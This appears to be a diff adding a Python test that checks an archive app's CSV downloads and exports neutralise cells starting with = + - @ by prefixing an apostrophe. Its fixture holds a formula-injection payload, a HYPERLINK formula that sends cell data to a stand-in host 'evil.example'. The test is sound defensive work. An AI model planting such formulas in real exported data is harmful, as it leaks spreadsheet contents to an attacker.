@@ -203,3 +203,64 @@ def test_a_document_hidden_after_indexing_stays_out_of_feeds_and_exports(tmp_pat
         assert coins and not any("0874552c" in c for c in coins)
     finally:
         app.catalogue.dispose()
+
+
+_FORMULAS = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+             "summary": "+SUM(1,2)", "text": "-2+3 is what the clerk wrote", "places": "@Berlin"}
+
+
+def _formula_archive(root: Path) -> tuple[App, TestClient]:
+    """An archive of one CSV-imported document whose cells look like spreadsheet formulas, and
+    one whose title was typed with a spreadsheet's apostrophe text marker."""
+    from chancery.bootstrap import build_app
+    from chancery.config import load_settings
+    from chancery.services import search
+    from chancery.services.imports import import_paths
+    from chancery.web.server import create_app
+
+    source = root / "box.csv"
+    with source.open("w", newline="", encoding="utf-8") as f:
+        writer = csv.DictWriter(f, ["id", "title", "date", "summary", "text", "places"])
+        writer.writeheader()
+        writer.writerow({"id": "formula1", "date": "1961-08", **_FORMULAS})
+        writer.writerow({"id": "formula2", "title": "'=typed as text", "text": "Text."})
+    app = build_app(load_settings(data=str(root / "data"), database_url=""))
+    assert not import_paths([source], app.import_context()).failed
+    search.rebuild_index(app.catalogue, app.index)
+    return app, TestClient(create_app(app))
+
+
+def _csv_rows(text: str) -> dict[str, dict[str, str]]:
+    return {r["public_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    """In the CSV download and `export --format csv` a cell beginning with = + - @ gets an
+    apostrophe first (OWASP); JSON lines and the stored record keep the text as it is; the
+    export imported again does not gather apostrophes, and exports the same again."""
+    app, site = _formula_archive(tmp_path)
+    try:
+        download = site.get("/downloads/documents.csv").text
+        rows = _csv_rows(download)
+        assert {k: rows["formula1"][k] for k in _FORMULAS} == {k: "'" + v for k, v in _FORMULAS.items()}
+        assert rows["formula2"]["title"] == "'=typed as text"
+        records = {json.loads(line)["public_id"]: json.loads(line)
+                   for line in site.get("/downloads/documents.jsonl").text.splitlines()}
+        assert records["formula1"]["title"] == _FORMULAS["title"]
+        assert records["formula2"]["title"] == "=typed as text"  # the marker is not text
+        out = tmp_path / "export.csv"
+        result = CliRunner().invoke(cli, ["--data", str(app.settings.data), "export", "--format",
+                                          "csv", "--out", str(out)])
+        assert result.exit_code == 0, result.output
+        assert out.read_bytes().decode() == download
+        from chancery.services.imports import import_paths
+        assert not import_paths([out], app.import_context()).failed
+        again = site.get("/api/v1/documents/formula1").json()
+        assert (again["title"], again["summary"]) == (_FORMULAS["title"], _FORMULAS["summary"])
+        assert site.get("/api/v1/documents/formula2").json()["title"] == "=typed as text"
+        reexported = _csv_rows(site.get("/downloads/documents.csv").text)
+        for public_id, row in rows.items():
+            assert {k: reexported[public_id][k] for k in ("title", "summary", "text")} == \
+                {k: row[k] for k in ("title", "summary", "text")}
+    finally:
+        app.catalogue.dispose()
